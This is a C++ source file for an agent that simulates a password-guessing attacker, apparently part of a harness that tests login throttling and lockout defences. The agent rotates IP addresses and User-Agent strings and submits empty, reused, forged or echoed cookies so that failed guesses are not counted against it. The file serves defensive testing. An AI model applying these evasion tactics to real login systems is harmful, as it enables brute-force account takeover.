// guess-new-browsers: one person, each try with other cookies: none at all, those of the attacker's
// own account, their names with values that he made up, and those that came with the answer to a
// wrong try. When those of his own are worth nothing any more he signs in for new ones; when
// nothing helps he waits for a while and comes back once. Whoever counts by what a client may throw
// away, write himself, get for another account or without the password counts nothing.
#include "core/attack/every_agent.h"
#include "core/attack/guesser.h"

namespace parapet::attack {
namespace {

constexpr std::size_t kCookieKinds = 4;
constexpr Duration kWhile = std::chrono::minutes(5);
constexpr int kMostOwn = 6;  // times that he signs in himself

// "name=value" of each cookie that the answer sets.
std::vector<std::string> cookies_given(http::Response const& response) {
    std::vector<std::string> cookies;
    for (std::string_view line : response.headers.all("set-cookie"))
        cookies.emplace_back(line.substr(0, line.find(';')));
    return cookies;
}

class GuessNewBrowsers final : public Agent {
    void run(Target& target) override {
        Guesser guesser(target);
        if (!guesser.can_try()) return;
        target.wait(until_half_past(target.now()));  // both visits are within one quarter
        std::vector<std::string> cookies = own_cookies(target, guesser);
        std::vector<std::string> given;  // with the answer to a try
        int own = 1;
        for (int visit = 0; visit < 2; ++visit) {
            if (visit > 0) target.wait(kWhile);
            guesser.try_again();
            for (std::size_t i = 0; !guesser.is_done(3 * kCookieKinds); ++i) {
                http::Request one = guesser.request(guesser.victim(), guesser.password());
                one.client_address = guesser.new_address();
                one.headers.append("User-Agent", guesser.wrong_one());
                bool const is_answered_with = i % kCookieKinds == 3;
                std::string const header = is_answered_with
                                               ? cookie_header(given, 1, guesser)
                                               : cookie_header(cookies, i % kCookieKinds, guesser);
                if (!header.empty()) one.headers.append("Cookie", header);
                http::Response const answer = guesser.guess(one);
                bool const refused = is_refused(answer);
                auto const now_given = cookies_given(answer);
                if (!now_given.empty() || (refused && is_answered_with)) given = now_given;
                if (refused && i % kCookieKinds == 1 && own++ < kMostOwn)
                    cookies = own_cookies(target, guesser);
            }
        }
    }

    // Kind 0: none; 1: as they were given; 2: with values of his own.
    static std::string cookie_header(std::vector<std::string> const& cookies, std::size_t kind,
                                     Guesser& guesser) {
        std::string header;
        for (std::string const& cookie : cookies) {
            if (kind == 0) break;
            std::string const name = cookie.substr(0, cookie.find('='));
            header += (header.empty() ? "" : "; ") +
                      (kind == 1 ? cookie : name + '=' + guesser.wrong_one());
        }
        return header;
    }

    static std::vector<std::string> own_cookies(Target& target, Guesser& guesser) {
        Account const& self = target.surface().attacker;
        http::Request own = guesser.request(self.username, self.password);
        own.client_address = guesser.new_address();
        target.forget_cookies();
        return cookies_given(target.send(own));
    }
};

}  // namespace

std::unique_ptr<Agent> make_guess_new_browsers() { return std::make_unique<GuessNewBrowsers>(); }

}  // namespace parapet::attack
